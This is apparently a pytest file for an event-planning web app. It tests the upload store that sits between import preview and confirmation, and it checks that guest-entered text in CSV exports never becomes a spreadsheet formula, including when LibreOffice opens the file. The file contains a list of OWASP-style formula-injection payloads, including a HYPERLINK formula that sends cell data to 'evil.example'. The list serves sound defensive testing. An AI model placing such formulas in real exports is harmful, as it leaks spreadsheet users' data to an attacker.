"""CSV files in and out: an upload waits on the server between its preview and its import
(for its organiser only, once, for an hour), and no text a guest wrote becomes a formula in
the spreadsheet that opens an export (checked with LibreOffice itself)."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from eventplanner.contacts.models import Contact
from eventplanner.extensions import db, utcnow
from eventplanner.gifts.models import GiftDirection
from eventplanner.gifts.services import GiftDetails, record_gift
from eventplanner.questions.models import Question, QuestionAnswer, QuestionKind
from eventplanner.spreadsheets import csv_bytes
from eventplanner.uploads.models import Upload
from tests.conftest import ROOT, activity_ids, not_installed

KEY = re.compile(r'name="upload" type="hidden" value="([^"]+)"')
BIG_CSV = 4_500_000  # bytes: under the 5 MB upload limit, over it as base64


def count(app, model) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model))


def contacts_csv(rows: int, notes_length: int = 0) -> bytes:
    lines = ["name,email,notes"] + [
        f"Guest {number},guest{number}@client.example,{'n' * notes_length}"
        for number in range(rows)]
    return "\n".join(lines).encode("utf-8")


def upload(browser, url: str, content: bytes, filename: str):
    """POST a file as a browser's form does. The multipart body is built here in memory:
    the test client's own builder leaves a temporary file open for large bodies."""
    boundary, body = encode_multipart({"csrf_token": browser.csrf_token(), "file": FileStorage(
        io.BytesIO(content), filename=filename, content_type="text/csv")})
    return browser.post(url, data=body,
                        content_type=f"multipart/form-data; boundary={boundary}")


def preview_contacts(browser, content: bytes):
    return upload(browser, "/contacts/import", content, "contacts.csv")


def key_in(page) -> str:
    return KEY.search(page.get_data(as_text=True)).group(1)


def confirm_contacts(browser, key: str):
    return browser.submit("/contacts/import/confirm", {"upload": key}, follow_redirects=True)


# --- the upload store ---------------------------------------------------------------------

def test_a_file_near_the_upload_limit_is_previewed_and_then_imported(
        app, make_organiser, log_in):
    """It used to travel back as base64 in the page (a third larger) and the confirmation
    answered 413."""
    content = contacts_csv(1000, notes_length=4480)
    assert BIG_CSV < len(content) < app.config["MAX_CONTENT_LENGTH"] - 10_000
    organiser = log_in(make_organiser())
    preview = preview_contacts(organiser, content)
    assert preview.status_code == 200
    assert len(preview.get_data()) < len(content) / 2, "the page does not carry the file"
    done = confirm_contacts(organiser, key_in(preview))
    assert done.status_code == 200
    assert "Import done: 1000 added, 0 updated, 0 rows skipped." in done.get_data(as_text=True)
    assert count(app, Contact) == 1000
    assert count(app, Upload) == 0, "an imported file is not kept"


def test_a_large_results_file_is_previewed_and_then_saved(
        app, make_organiser, make_event, make_activity, make_contact, make_invitation, log_in,
        client):
    from eventplanner.goals.models import Result

    owner = make_organiser()
    event = make_event(owner=owner, status="published")
    make_activity(event, name="Stair race")
    race, = activity_ids(app, event)
    anna = make_invitation(event, make_contact(owner, name="Anna"), send=True)
    client.submit(f"/r/{anna.token}", {f"part_{race}": "yes", "dietary_needs": "",
                                       "message_to_host": ""})
    # A timing system's export with columns we do not read, and a lot in them.
    splits = range(36)
    content = ("name;time;" + ";".join(f"split {n}" for n in splits) + "\nAnna;9:30;"
               + ";".join("1" * 128_000 for _ in splits) + "\n").encode()
    assert len(content) > BIG_CSV
    organiser = log_in(owner)
    url = f"/events/{event.id}/parts/{race}/results/import"
    preview = upload(organiser, url, content, "timing.csv")
    assert preview.status_code == 200 and "Save 1 result" in preview.get_data(as_text=True)
    done = organiser.submit(f"{url}/confirm", {"upload": key_in(preview)},
                            follow_redirects=True)
    assert done.status_code == 200 and "1 result saved." in done.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(Result.time_seconds)) == 570


def test_another_organisers_upload_is_refused(app, make_organiser, log_in):
    owner = log_in(make_organiser())
    key = key_in(preview_contacts(owner, contacts_csv(3)))
    stranger = log_in(make_organiser())
    refused = confirm_contacts(stranger, key)
    assert "That file is not here any more" in refused.get_data(as_text=True)
    assert count(app, Contact) == 0
    assert "Import done: 3 added" in confirm_contacts(owner, key).get_data(as_text=True)


def test_an_upload_serves_only_the_import_it_was_checked_for(
        app, make_organiser, make_event, make_activity, log_in):
    owner = make_organiser()
    event = make_event(owner=owner, status="published")
    make_activity(event, name="Stair race")
    race, = activity_ids(app, event)
    organiser = log_in(owner)
    key = key_in(preview_contacts(organiser, contacts_csv(3)))
    refused = organiser.submit(f"/events/{event.id}/parts/{race}/results/import/confirm",
                               {"upload": key}, follow_redirects=True)
    assert "That file is not here any more" in refused.get_data(as_text=True)
    assert count(app, Upload) == 1


def test_a_double_submit_imports_once(app, make_organiser, log_in):
    organiser = log_in(make_organiser())
    key = key_in(preview_contacts(organiser, contacts_csv(3)))
    assert "Import done: 3 added" in confirm_contacts(organiser, key).get_data(as_text=True)
    again = confirm_contacts(organiser, key).get_data(as_text=True)
    assert "That file is not here any more: it was imported already" in again
    assert "Import done" not in again
    assert count(app, Contact) == 3


def test_an_expired_upload_is_explained_and_cleaned_up(app, make_organiser, log_in):
    organiser = log_in(make_organiser())
    key = key_in(preview_contacts(organiser, contacts_csv(3)))
    later = utcnow() + timedelta(minutes=61)
    with time_machine.travel(later, tick=False):
        expired = confirm_contacts(organiser, key).get_data(as_text=True)
        assert "That file was checked more than an hour ago" in expired
        assert count(app, Contact) == 0
        preview_contacts(organiser, contacts_csv(2))  # keeping a file clears out old ones
        with app.app_context():
            assert db.session.scalar(select(Upload.expires_at)) > later
    assert count(app, Upload) == 1
    with time_machine.travel(later + timedelta(hours=2), tick=False):
        result = app.test_cli_runner().invoke(args=["privacy", "purge", "--days", "700"])
    assert "deleted 1 expired uploads" in result.output
    assert count(app, Upload) == 0


# --- CSV exports ----------------------------------------------------------------------------

#: What OWASP lists as starting a formula, as a guest might type it.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3*4",
            "@SUM(1,2)", "\t=1+2", "\r=1+2"]


def test_no_text_cell_of_a_csv_starts_a_formula():
    rows = list(csv.reader(io.StringIO(csv_bytes([FORMULAS + [-5, 3.5, "Kari", ""]])
                                       .decode("utf-8-sig"), newline="")))
    assert rows == [["'" + text for text in FORMULAS] + ["-5", "3.5", "Kari", ""]]


@pytest.fixture
def hostile_guest(app, make_organiser, make_event, make_activity, make_contact,
                  make_guest_who_came):
    """A guest of last month's race whose every text is a formula."""
    from eventplanner.invitations.models import Invitation

    owner = make_organiser()
    event = make_event(owner=owner, status="published")
    start = (utcnow() - timedelta(days=30)).replace(tzinfo=None)
    make_activity(event, name="Stair race", starts_at=start, ends_at=start + timedelta(hours=1))
    guest = make_contact(owner, name=FORMULAS[0], company_name="@Nordlys")
    invitation = make_guest_who_came(event, guest, score=3, did_well=FORMULAS[3],
                                     do_better=FORMULAS[2])
    with app.app_context():
        live = db.session.get(Invitation, invitation.id)
        live.message_to_host, live.dietary_needs = FORMULAS[4], FORMULAS[1]
        live.plus_one_names = [FORMULAS[5].strip()]
        question = Question(event_id=live.event_id, kind=QuestionKind.TEXT, text=FORMULAS[2])
        db.session.add(question)
        db.session.flush()
        db.session.add(QuestionAnswer(invitation_id=live.id, question_id=question.id,
                                      text=FORMULAS[1]))
        record_gift(live.event.workspace_id, GiftDetails(
            GiftDirection.RECEIVED, utcnow().date(), FORMULAS[3], occasion=FORMULAS[1]),
            live.event.owner, contact=live.contact)
        db.session.commit()
    return event


#: Every CSV the app serves; test_every_csv_export_is_checked_here keeps this complete.
EXPORTS = ("invitations.export_answers", "feedback.export_feedback", "gifts.export")


def export_url(endpoint: str, event) -> str:
    return {"invitations.export_answers": f"/events/{event.id}/guests.csv",
            "feedback.export_feedback": f"/events/{event.id}/feedback.csv",
            "gifts.export": f"/gifts/export.csv?year={utcnow().year}"}[endpoint]


def test_every_csv_export_is_checked_here(app):
    served = {rule.endpoint for rule in app.url_map.iter_rules() if ".csv" in rule.rule}
    assert served == set(EXPORTS)


def test_csv_files_are_written_in_one_place():
    writers = {path.relative_to(ROOT).as_posix()
               for path in (ROOT / "eventplanner").rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())}
    assert writers == {"eventplanner/spreadsheets.py"}


@pytest.mark.parametrize("endpoint", EXPORTS)
def test_an_export_says_once_that_it_is_csv_in_utf8(app, hostile_guest, log_in, endpoint):
    response = log_in(hostile_guest.owner).get(export_url(endpoint, hostile_guest))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("endpoint", EXPORTS)
def test_a_guests_text_in_an_export_is_text(app, hostile_guest, log_in, endpoint):
    response = log_in(hostile_guest.owner).get(export_url(endpoint, hostile_guest))
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)[1:],
                                                    newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS[0] in cells, "the guest's name is there, as text"


@pytest.fixture(scope="session")
def libreoffice(tmp_path_factory) -> list[str]:
    """LibreOffice Calc, headless (``make test-tools`` installs it)."""
    if not shutil.which("soffice"):
        not_installed("LibreOffice Calc (soffice)")
    profile = tmp_path_factory.mktemp("libreoffice")
    return ["soffice", "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}"]


def cells_as_libreoffice_reads_them(soffice: list[str], csv_file: Path) -> list[dict]:
    """Open the CSV as a user would (UTF-8, comma-separated) and save it as a flat
    OpenDocument spreadsheet: each cell's text and, if it became one, its formula."""
    subprocess.run(soffice + ["--infilter=CSV:44,34,76,1", "--convert-to", "fods",
                              "--outdir", str(csv_file.parent), str(csv_file)],
                   check=True, capture_output=True, timeout=120)
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    text = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
    tree = ET.parse(csv_file.with_suffix(".fods"))
    return [{"formula": cell.get(f"{table}formula"),
             "text": "\n".join("".join(p.itertext()) for p in cell.iter(f"{text}p"))}
            for cell in tree.iter(f"{table}table-cell")]


@pytest.mark.parametrize("endpoint", EXPORTS)
@pytest.mark.long
def test_libreoffice_opens_an_export_without_running_a_guests_formula(
        app, backend, hostile_guest, log_in, libreoffice, tmp_path, endpoint):
    if backend.name != "sqlite":
        pytest.skip("the file is the same from either database")
    csv_file = tmp_path / "export.csv"
    csv_file.write_bytes(log_in(hostile_guest.owner).get(export_url(endpoint, hostile_guest))
                         .get_data())
    cells = cells_as_libreoffice_reads_them(libreoffice, csv_file)
    assert [cell for cell in cells if cell["formula"]] == []
    texts = {cell["text"] for cell in cells}
    assert "'" + FORMULAS[0] in texts
    assert any(text in texts for text in ("'" + FORMULAS[3], "'" + FORMULAS[1]))

